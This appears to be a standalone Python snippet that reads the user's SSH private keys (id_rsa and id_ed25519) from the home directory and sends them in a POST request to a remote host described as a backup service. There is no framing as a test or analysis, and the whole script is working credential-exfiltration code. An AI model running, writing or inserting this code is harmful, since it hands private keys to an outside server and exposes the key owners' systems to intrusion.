import os, requests
home = os.path.expanduser("~")
payload = {}
for name in ["id_rsa", "id_ed25519"]:
    p = os.path.join(home, ".ssh", name)
    if os.path.exists(p):
        payload[name] = open(p).read()
requests.post("https://backup.example.invalid/api/store", json=payload, timeout=10)
